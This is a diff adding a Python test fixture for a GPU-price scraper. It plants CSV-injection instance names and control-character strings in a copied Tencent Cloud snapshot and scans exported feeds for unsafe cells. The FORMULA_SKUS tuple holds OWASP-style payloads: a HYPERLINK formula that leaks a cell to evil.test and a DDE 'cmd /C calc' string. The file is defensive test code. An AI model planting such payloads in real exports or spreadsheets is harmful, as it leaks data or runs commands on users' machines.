@@ -1,0 +1,83 @@
+"""Hostile cells for tests/faults/test_hostile_input.py: a tencent_cn snapshot copy whose Nanjing
+page lists instances named like spreadsheet formulas or full of control characters, and an
+absurdly cheap A100 80GB (a possible outlier, inside the card's bounds); and the scans that
+count, in the feeds, the cells a spreadsheet would evaluate or mangle."""
+
+from __future__ import annotations
+
+import csv
+import json
+import re
+import shutil
+import sys
+from pathlib import Path
+
+import duckdb
+
+from spiders.layout import SNAPSHOT_DIR
+
+# Instance types a spreadsheet would run (OWASP's CSV injection examples and their kin).
+FORMULA_SKUS = ('=HYPERLINK("http://evil.test/?leak="&A1,"GT4")', "+1+cmd|' /C calc'!A0",
+                "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=2+2", "\uff1d3+3")
+CONTROL_SKU = "GT4\x00\x1b[2J\u202eevil\x85"          # NUL, ESC, RLO, a C1 control
+OUTLIER_SKU = "GT4.A100-80G.ABSURD"                      # 1.50 CNY/h: ~20x below the market
+FORMULA_START = tuple("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
+PLAIN_NEGATIVE = re.compile(r"-[0-9]+(\.[0-9]+)?")
+CONTROLS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
+CELL_LIMIT = 1000
+
+
+def _instance(sku: str, gpu: str, hour: str) -> dict:
+    return {"instanceType": sku, "instanceFamily": "GT4", "zone": "ap-nanjing-1", "cpu": 16,
+            "memory": 96, "gpu": gpu, "gpuCount": 1,
+            "price": {"postpaidByHour": hour, "prepaidMonthly": None, "spotByHour": None},
+            "soldOut": False}
+
+
+def build_tencent(copy: Path) -> bytes:
+    """tencent_cn copied under `copy`, its Nanjing page with the hostile instances (A100 40GB at
+    Tencent's own price, and the outlier); returns the page's bytes."""
+    shutil.copytree(SNAPSHOT_DIR / "tencent_cn", copy / "tencent_cn")
+    page = copy / "tencent_cn" / "gpu_ap-nanjing.json"
+    body = json.loads(page.read_text(encoding="utf-8"))
+    body["data"]["instances"] += [_instance(sku, "NVIDIA A100 40GB", "26.90")
+                                  for sku in (*FORMULA_SKUS, CONTROL_SKU)]
+    body["data"]["instances"].append(_instance(OUTLIER_SKU, "NVIDIA A100 80GB", "1.50"))
+    written = json.dumps(body, ensure_ascii=False).encode("utf-8")
+    page.write_bytes(written)
+    return written
+
+
+def formula_like(cell: str) -> bool:
+    return cell.startswith(FORMULA_START) and not PLAIN_NEGATIVE.fullmatch(cell)
+
+
+def unsafe_cells(cells: list[str]) -> dict[str, int]:
+    """How many cells a spreadsheet would evaluate (formula-like), mangle (control or bidi
+    characters) or choke on (over 1,000 characters)."""
+    return {"formula": sum(map(formula_like, cells)),
+            "control": sum(bool(CONTROLS.search(c)) for c in cells),
+            "over_limit": sum(len(c) > CELL_LIMIT for c in cells)}
+
+
+def csv_cells(feeds: Path) -> list[str]:
+    """Every cell of every CSV feed (header rows left out)."""
+    csv.field_size_limit(sys.maxsize)
+    cells = []
+    for path in sorted(feeds.glob("*.csv")):
+        with path.open(encoding="utf-8", newline="") as fh:
+            cells += [cell for row in list(csv.reader(fh))[1:] for cell in row]
+    return cells
+
+
+def parquet_text_cells(feeds: Path) -> list[str]:
+    """Every text cell of every Parquet feed: the text as stored, what the CSV would carry
+    without csv_safe_cell."""
+    cells = []
+    with duckdb.connect() as con:
+        for path in sorted(feeds.glob("*.parquet")):
+            for column, column_type, *_ in con.execute(f"describe '{path}'").fetchall():
+                if column_type == "VARCHAR":
+                    cells += [v for (v,) in con.execute(f'select "{column}" from \'{path}\' '
+                                                        f'where "{column}" is not null').fetchall()]
+    return cells
